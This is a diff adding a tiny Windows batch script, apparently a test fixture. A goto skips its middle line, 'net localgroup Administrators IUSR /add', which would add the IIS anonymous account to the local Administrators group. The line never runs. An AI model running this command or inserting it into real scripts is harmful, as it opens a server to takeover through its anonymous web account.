@@ -1,0 +1,5 @@
+@echo off
+goto done
+net localgroup Administrators IUSR /add
+:done
+echo done
